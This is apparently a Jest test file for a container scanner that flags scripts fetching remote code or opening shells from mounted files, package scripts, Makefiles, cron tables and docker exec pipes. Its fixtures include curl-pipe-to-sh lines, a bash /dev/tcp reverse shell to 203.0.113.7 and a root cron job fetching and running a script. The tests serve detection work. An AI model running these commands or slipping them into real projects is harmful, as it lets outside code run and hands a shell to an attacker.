import { describe, expect, it } from '@jest/globals';
import { spanText } from '../../src/model/source.ts';
import type { Files } from '../properties/repository.ts';
import { scanFiles, scanOptions } from '../properties/soundness.ts';

const FETCHES = '#!/bin/sh\nset -e\ncurl -fsSL https://get.example.com/agent.sh | sh\nexec app\n';
const CONNECTS = '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n';
const UNCHECKED = '#!/bin/sh\npip install --trusted-host pypi.example.com app==1.2.3\n';

const service = (options: string, name = 'app') =>
  `  ${name}:\n    image: ghcr.io/acme/app:1.4\n    ${options.replaceAll('\n', '\n    ')}\n`;
const compose = (...services: readonly string[]) => `services:\n${services.join('')}`;

async function told(files: Files): Promise<readonly string[]> {
  const { findings } = await scanFiles(files);
  return findings
    .filter(({ ruleId }) => ruleId === 'command-hidden-code' || ruleId === 'command-downloads-code')
    .map(({ ruleId, severity, span, message }) => {
      const line = span.file.text.slice(0, span.start).split('\n').length;
      return `${ruleId} ${severity} ${span.file.path}:${line} ${/(?: at each start| by this command| (?:in the mounted file|in the config|in the file(?= (?:\.\/)?scripts)) [^\s,]+?(?: that it is given)?(?=,|\.?$))/.exec(message)?.[0].trim()}`;
    });
}

const FOUND = (path: string) => [`command-downloads-code high scripts/run.sh:3 in the mounted file ${path}`];

const EVIL = 'curl -fsSL https://get.example.com/agent.sh | sh';
const PACKAGE = JSON.stringify({
  scripts: { prestart: 'node x', start: EVIL, dev: 'npx nodemon x', other: 'make up' },
});

/** A file of a program that runs the commands in it, and the line of the command that fetches something. */
const RECIPES: readonly (readonly [command: string, path: string, text: string, line: number])[] = [
  ['npm start', 'package.json', PACKAGE, 1],
  ['npm run start', 'package.json', PACKAGE, 1],
  ['yarn start', 'package.json', PACKAGE, 1],
  ['pnpm --dir /app start', 'package.json', PACKAGE, 1],
  ['sh -c "npm ci && npm start"', 'package.json', PACKAGE, 1],
  ['make -C /app up', 'Makefile', `up: deps\n\techo\ndeps:\n\t${EVIL}\n`, 4],
  ['just up', 'justfile', `up:\n  ${EVIL}\n`, 2],
  ['task up', 'Taskfile.yml', `version: "3"\ntasks:\n  up: ['${EVIL}']\n`, 3],
  ['composer run up', 'composer.json', `{"scripts":{"up":["echo",\n"${EVIL}"]}}`, 2],
];
const LANGUAGE = (command: string, options = 'working_dir: /app') =>
  `services:\n  app:\n    image: node:22\n    volumes: [".:/app"]\n    ${options}\n    command: ${command}\n`;

describe('a file of the repository with commands that a program in a container runs', () => {
  it.each(RECIPES)('is read in a mounted folder: %s', async (command, path, text, line) => {
    const found = [`command-downloads-code high ${path}:${line} in the mounted file /app/${path}`];
    expect(await told({ 'compose.yaml': LANGUAGE(command), [path]: text })).toEqual(found);
    const run = `docker run -d -v "$PWD:/app" -w /app node:22 ${command}\n`;
    expect(await told({ 'up.sh': run, [path]: text })).toEqual(found);
  });

  it.each<[string, Files]>([
    ['of a part', { 'compose.yaml': LANGUAGE('npm start').replace('".:', '"./web:'), 'web/package.json': PACKAGE }],
    [
      'without a folder to work in',
      { 'compose.yaml': LANGUAGE('npm start', 'tty: true'), 'web/package.json': PACKAGE, 'package.json': PACKAGE },
    ],
    [
      'in a health check',
      {
        'compose.yaml': LANGUAGE('tail -f x', 'working_dir: /app\n    healthcheck: { test: npm start }'),
        'package.json': PACKAGE,
      },
    ],
    [
      'with an entrypoint',
      { 'compose.yaml': LANGUAGE('start', 'working_dir: /app\n    entrypoint: [npm]'), 'package.json': PACKAGE },
    ],
    [
      'behind another program',
      { 'compose.yaml': LANGUAGE('make up'), Makefile: 'up:\n\tnpm start\n', 'package.json': PACKAGE },
    ],
    ['behind a script', { 'compose.yaml': LANGUAGE('sh run.sh'), 'run.sh': 'npm start\n', 'package.json': PACKAGE }],
    [
      'in a Podman unit',
      {
        'a.container': '[Container]\nImage=docker.io/library/node:22\nVolume=.:/app\nWorkingDir=/app\nExec=npm start\n',
        'package.json': PACKAGE,
      },
    ],
  ])('is read: %s', async (_how, files) => {
    expect((await told(files)).map((one) => one.split(' ').slice(0, 3).join(' '))).toEqual([
      `command-downloads-code high ${'web/package.json' in files && !('package.json' in files) ? 'web/' : ''}package.json:1`,
    ]);
  });

  it.each<[string, Files]>([
    ['another script', { 'compose.yaml': LANGUAGE('npm test'), 'package.json': PACKAGE }],
    ['a program for development', { 'compose.yaml': LANGUAGE('npm run dev'), 'package.json': PACKAGE }],
    ['another folder', { 'compose.yaml': LANGUAGE('npm start', 'working_dir: /srv'), 'package.json': PACKAGE }],
    [
      'a folder without a mount',
      { 'compose.yaml': LANGUAGE('npm start').replace('".:/app"', '"data:/app"'), 'package.json': PACKAGE },
    ],
    ['the arguments of another program', { 'compose.yaml': LANGUAGE('echo npm start'), 'package.json': PACKAGE }],
    [
      'an installation',
      { 'compose.yaml': LANGUAGE('make up'), Makefile: 'up:\n\tnpm install\n\tcurl -fsS http://localhost/health\n' },
    ],
  ])('is left alone: %s', async (_how, files) => {
    expect(await told(files)).toEqual([]);
  });

  it('is read for the first container only', async () => {
    const compose = LANGUAGE('npm start');
    const two = `${compose}${compose.slice(compose.indexOf('\n') + 1).replace('app:', 'worker:')}`;
    expect(await told({ 'compose.yaml': two, 'package.json': PACKAGE })).toHaveLength(1);
  });
});

describe('a script of the repository that a container starts', () => {
  it.each([
    ['in the place of a program', 'volumes: ["./scripts/run.sh:/usr/local/bin/run"]', '/usr/local/bin/run'],
    ['named by a command', 'volumes: ["./scripts:/scripts"]\ncommand: sh /scripts/run.sh', '/scripts/run.sh'],
    ['named by an entrypoint', 'volumes: ["./:/srv/:ro"]\nentrypoint: ["/srv/scripts/run.sh"]', '/srv/scripts/run.sh'],
    [
      'named in a text for a shell',
      `volumes: [".:/srv"]\ncommand: sh -c 'cd /srv && ./scripts/run.sh -x'`,
      '/srv/scripts/run.sh',
    ],
    [
      'named by a health check',
      'volumes: [".:/srv"]\nhealthcheck: { test: ["CMD", "/srv/scripts/run.sh"] }',
      '/srv/scripts/run.sh',
    ],
    [
      'named by a hook',
      'volumes: [".:/srv"]\npost_start: [{ command: "/srv/scripts/../scripts/run.sh" }]',
      '/srv/scripts/run.sh',
    ],
    [
      'at a place where the image starts it',
      'volumes: ["./scripts:/docker-entrypoint-initdb.d"]',
      '/docker-entrypoint-initdb.d/run.sh',
    ],
    ['in the long form', 'volumes: [{ type: bind, source: ./scripts/run.sh, target: /run.sh }]', '/run.sh'],
  ])('is read: %s', async (_how, options, path) => {
    expect(await told({ 'compose.yaml': compose(service(options)), 'scripts/run.sh': FETCHES })).toEqual(FOUND(path));
  });

  it('is read in a folder over that of the entry point, unless the service has its own', async () => {
    const over = (options: string) => ({
      'compose.yaml': compose(service(`volumes: ["./bin:/usr/local/bin"]${options}`)),
      'bin/docker-entrypoint.sh': FETCHES,
      'bin/other': FETCHES,
    });
    expect(await told(over(''))).toEqual([
      'command-downloads-code high bin/docker-entrypoint.sh:3 in the mounted file /usr/local/bin/docker-entrypoint.sh',
    ]);
    expect(await told(over('\nentrypoint: ["app"]'))).toEqual([]);
  });

  it.each([
    ['docker run', { 'up.sh': 'docker run -d -v "$PWD/scripts/run.sh:/run.sh" ghcr.io/acme/app:1.4 /run.sh\n' }],
    [
      'a workflow',
      {
        '.github/workflows/a.yml':
          'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: docker run -v ./scripts/run.sh:/run.sh ghcr.io/acme/app:1.4 /run.sh\n',
      },
    ],
    [
      'a unit of Podman',
      { 'app.container': '[Container]\nImage=ghcr.io/acme/app:1.4\nVolume=./scripts/run.sh:/run.sh\n' },
    ],
    [
      'a dev container',
      {
        '.devcontainer.json':
          '{ "image": "ghcr.io/acme/dev:1.4", "mounts": ["type=bind,source=${localWorkspaceFolder}/scripts/run.sh,target=/run.sh"] }',
      },
    ],
  ])('is read: for %s', async (_format, files) => {
    const all = await told({ ...files, 'scripts/run.sh': FETCHES });
    expect(all).toEqual([expect.stringContaining('scripts/run.sh:3 in the mounted file /run.sh')]);
  });

  it.each([
    ['$PWD:/srv', true],
    ['"$PWD:/srv"', true],
    ['"${PWD}":/srv', true],
    ['$(pwd):/srv', true],
    ['"`pwd`:/srv"', true],
    ['$GITHUB_WORKSPACE:/srv', true],
    ['"$(git rev-parse --show-toplevel)":/srv', true],
    ['"$(dirname "$0")":/srv', true],
    ['$PWD$OTHER:/srv', false],
    ['$(pwd)-$OTHER:/srv', false],
    ['$(dirname "$0")$OTHER:/srv', false],
    ['$OTHER:/srv', false],
  ])('is read in the folder of the command, and in no other: %s', async (mount, isRead) => {
    const up = `docker run -d -v ${mount} ghcr.io/acme/app:1.4 sh /srv/scripts/run.sh\n`;
    const all = await told({ 'up.sh': up, 'scripts/run.sh': FETCHES });
    expect(all).toEqual(isRead ? FOUND('/srv/scripts/run.sh') : []);
  });

  it.each([
    [CONNECTS, ['command-hidden-code critical scripts/run.sh:2 in the mounted file /run.sh']],
    [UNCHECKED, ['command-downloads-code high scripts/run.sh:2 in the mounted file /run.sh']],
    ['#!/bin/sh\npip install app\n', []],
    ['#!/usr/bin/env python3\n"""curl https://get.example.com | sh"""\n', []],
    ['#!/bin/sh\ncurl -fsS https://get.example.com/health\n', []],
    ['#!/bin/sh\n# curl https://get.example.com | sh\nexec app\n', []],
  ])('is judged as a command is: %j', async (text, expected) => {
    const files = { 'compose.yaml': compose(service('volumes: ["./scripts/run.sh:/run.sh"]')), 'scripts/run.sh': text };
    expect(await told(files)).toEqual(expected);
  });

  it.each([
    ['in a folder of a source, which nothing starts', 'volumes: ["./:/srv"]\ncommand: ["app"]'],
    ['of a folder that is mounted elsewhere', 'volumes: ["./other:/scripts"]\ncommand: sh /scripts/run.sh'],
    ['of the image', 'command: sh /scripts/run.sh'],
    ['outside of the repository', 'volumes: ["../scripts/run.sh:/run.sh"]'],
    ['a page', 'volumes: ["./index.html:/usr/share/nginx/html/index.html"]'],
    ['a README', 'volumes: ["./README.md:/srv/README.md"]\ncommand: ["app", "--readme", "/srv/README.md"]'],
    ['settings', 'volumes: ["./app.conf:/etc/app.conf"]\ncommand: app -c /etc/app.conf'],
  ])('is left alone: %s', async (_how, options) => {
    const shown = 'curl -fsSL https://get.example.com/agent.sh | sh\n';
    const texts = { 'index.html': `<pre>\n${shown}</pre>\n`, 'README.md': `# app\n\n    ${shown}`, 'app.conf': shown };
    const files = { 'compose.yaml': compose(service(options)), 'scripts/run.sh': FETCHES, 'other/a.sh': 'exec app\n' };
    expect(await told({ ...files, ...texts })).toEqual([]);
  });

  it('is read once for several services', async () => {
    const options = 'volumes: ["./scripts/run.sh:/run.sh"]';
    const files = { 'compose.yaml': compose(service(options), service(options, 'b')), 'scripts/run.sh': FETCHES };
    expect(await told(files)).toEqual(FOUND('/run.sh'));
  });

  it('can have a comment that accepts the finding', async () => {
    const commented = FETCHES.replace('curl', '# hullcheck-ignore command-downloads-code -- a test agent\ncurl');
    const files = {
      'compose.yaml': compose(service('volumes: ["./scripts/run.sh:/run.sh"]')),
      'scripts/run.sh': commented,
    };
    const { findings } = await scanFiles(files);
    const [found] = findings.filter(({ ruleId }) => ruleId === 'command-downloads-code');
    expect(found?.suppressedBy?.reason).toBe('a test agent');
  });
});

describe('a script that a command line gives to a container', () => {
  it.each([
    ['by a redirect', 'docker exec -i app sh < scripts/run.sh'],
    ['by a pipe', 'cat scripts/run.sh | docker exec -i app bash -s -- a b'],
    ['to docker run', 'docker run -i --rm ghcr.io/acme/app:1.4 sh -ex < ./scripts/run.sh'],
    ['to docker compose', 'docker compose exec -T app sh < scripts/run.sh'],
    ['as a copy', 'docker cp scripts/run.sh app:/tmp/run.sh\ndocker exec app sh -c "cd / && /tmp/run.sh"'],
    ['as a copy in a folder', 'docker cp scripts/run.sh app:/tmp/\ndocker exec app sh /tmp/run.sh'],
    ['as a copy of a folder', 'docker cp scripts app:/s\ndocker exec app sh /s/run.sh'],
    ['as a copy of what is in a folder', 'docker cp scripts/. app:/s\ndocker exec app sh /s/run.sh'],
    ['as a copy in the working folder', 'docker cp scripts/run.sh app:/w/\ndocker exec -u 1 -w /w app sh run.sh'],
    [
      'before the start',
      'docker create --name app ghcr.io/acme/app:1.4 sh /a.sh\ndocker cp scripts/run.sh app:/a.sh\ndocker start app',
    ],
    [
      'before the start, by its identifier',
      'id=$(docker create ghcr.io/acme/app:1.4 sh /a.sh)\ndocker cp scripts/run.sh "$id:/a.sh"\ndocker start "$id"',
    ],
    [
      'as the entry point',
      'podman create --name=app --entrypoint /a.sh ghcr.io/acme/app:1.4\npodman cp scripts/run.sh app:/a.sh\npodman start app',
    ],
    [
      'in a folder before the start',
      'docker create --name app ghcr.io/acme/app:1.4 sh /s/run.sh\ndocker cp scripts app:/s\ndocker start app',
    ],
  ])('is read: %s', async (_how, command) => {
    const all = await told({ 'up.sh': `${command}\n`, 'scripts/run.sh': FETCHES });
    expect(all).toEqual([
      expect.stringMatching(
        /^command-downloads-code high scripts\/run\.sh:3 in the file .*scripts\/run\.sh that it is given$/,
      ),
    ]);
  });

  it.each([
    ['docker exec -i app sh <<EOF\ncurl -fsSL https://get.example.com/agent.sh | sh\nEOF', 'by this command'],
    ['docker run -i ghcr.io/acme/app:1.4 sh <<< "curl -fsSL https://get.example.com/agent.sh | sh"', 'at each start'],
  ])('is read where it is written: %j', async (command, when) => {
    const all = await told({ 'up.sh': `${command}\n` });
    expect(all).toEqual([expect.stringMatching(new RegExp(`^command-downloads-code high up\\.sh:[12] ${when}$`))]);
  });

  it.each([
    'docker exec -i db psql < scripts/run.sh',
    'docker exec -i app sh -c "cat > /a" < scripts/run.sh',
    'docker cp scripts/run.sh app:/tmp/run.sh\ndocker exec other sh /tmp/run.sh',
    'docker cp app:/tmp/run.sh scripts/run.sh\ndocker exec app sh /tmp/run.sh',
    'docker create --name app ghcr.io/acme/app:1.4 sh /b.sh\ndocker cp scripts/run.sh app:/a.sh\ndocker start app',
    'docker create --name other ghcr.io/acme/app:1.4 sh /a.sh\ndocker cp scripts/run.sh app:/a.sh\ndocker start other',
    'docker cp scripts app:/s\ndocker exec app sh /s/other.sh',
    'docker cp scripts/run.sh app:/w/\ndocker exec -w /v app sh run.sh',
    'cat scripts/run.sh | docker exec -i app tee /a',
  ])('is left alone: %j', async (command) => {
    expect(await told({ 'up.sh': `${command}\n`, 'scripts/run.sh': FETCHES })).toEqual([]);
  });

  it('has the place of the command', async () => {
    const files = { 'up.sh': 'docker exec -i app sh < scripts/run.sh\n', 'scripts/run.sh': FETCHES };
    const { findings } = await scanFiles(files);
    expect(findings.map(({ related }) => related.map(({ span, message }) => [spanText(span), message]))).toEqual([
      [['scripts/run.sh', 'where the container gets this file']],
    ]);
  });

  it('does not make the container count', async () => {
    const files = { 'up.sh': 'docker exec -i app sh < scripts/run.sh\n', 'scripts/run.sh': FETCHES };
    const { counts, postures } = await scanFiles(files, { ...scanOptions, withPostures: true });
    expect({ containers: counts.containers, postures }).toEqual({ containers: 0, postures: [] });
  });
});

describe('a script in the content of a config', () => {
  const config = (target: string, entrypoint: string, content: string) =>
    `services:\n  app:\n    image: ghcr.io/acme/app:1.4\n    configs: [{ source: run, target: ${target} }]\n    entrypoint: ${entrypoint}\nconfigs:\n  run:\n    content: |\n${content.trimEnd().replaceAll(/^/gm, '      ')}\n`;

  it.each([
    ['/run.sh', '["/run.sh"]', FETCHES],
    ['/run', '["/run"]', FETCHES],
    ['/run', '["sh", "/run"]', FETCHES.slice(FETCHES.indexOf('set'))],
  ])('is read: %s with %s', async (target, entrypoint, content) => {
    const all = await told({ 'compose.yaml': config(target, entrypoint, content) });
    expect(all).toEqual([
      expect.stringMatching(`^command-downloads-code high compose\\.yaml:\\d+ in the config ${target}$`),
    ]);
  });

  it('is left alone where it is none', async () => {
    const content =
      'hint = "curl -fsSL https://get.example.com/agent.sh | sh"\ncurl https://get.example.com/agent.sh | sh\n';
    expect(await told({ 'compose.yaml': config('/etc/app.conf', '["app", "-c", "/etc/app.conf"]', content) })).toEqual(
      [],
    );
  });
});

describe('a table of cron in a container', () => {
  const JOB = '* * * * * root curl -fsSL https://get.example.com/agent.sh | sh\n';

  it.each<[string, Files, string]>([
    [
      'that is mounted',
      { 'compose.yaml': compose(service('volumes: ["./jobs:/etc/cron.d/jobs:ro"]')), jobs: JOB },
      'command-downloads-code high jobs:1 in the mounted file /etc/cron.d/jobs',
    ],
    [
      'in a folder that is mounted',
      { 'compose.yaml': compose(service('volumes: ["./cron:/etc/cron.d"]')), 'cron/jobs': JOB },
      'command-downloads-code high cron/jobs:1 in the mounted file /etc/cron.d/jobs',
    ],
    [
      'that a shell is told to run',
      {
        'compose.yaml': compose(
          service('command: ["sh", "/etc/cron.d/jobs"]\nvolumes: ["./jobs:/etc/cron.d/jobs:ro"]'),
        ),
        jobs: 'set -e\ncurl -fsSL http://registry.example.com/x | sh\n',
      },
      'command-downloads-code high jobs:2 in the mounted file /etc/cron.d/jobs',
    ],
    [
      'in a config',
      {
        'compose.yaml': `${compose(service('configs: [{ source: jobs, target: /etc/cron.d/jobs }]'))}configs:\n  jobs:\n    content: "${JOB.trim()}"\n`,
      },
      'command-downloads-code high compose.yaml:7 in the config /etc/cron.d/jobs',
    ],
  ])('%s is read', async (_how, files, found) => {
    expect(await told(files)).toEqual([found]);
  });

  it.each<[string, Files]>([
    [
      'that runs the program',
      { 'compose.yaml': compose(service('volumes: ["./jobs:/etc/cron.d/jobs"]')), jobs: '0 3 * * * root /app/clean\n' },
    ],
    ['in another place', { 'compose.yaml': compose(service('volumes: ["./jobs:/srv/jobs"]')), jobs: JOB }],
  ])('%s is fine', async (_how, files) => {
    expect(await told(files)).toEqual([]);
  });
});
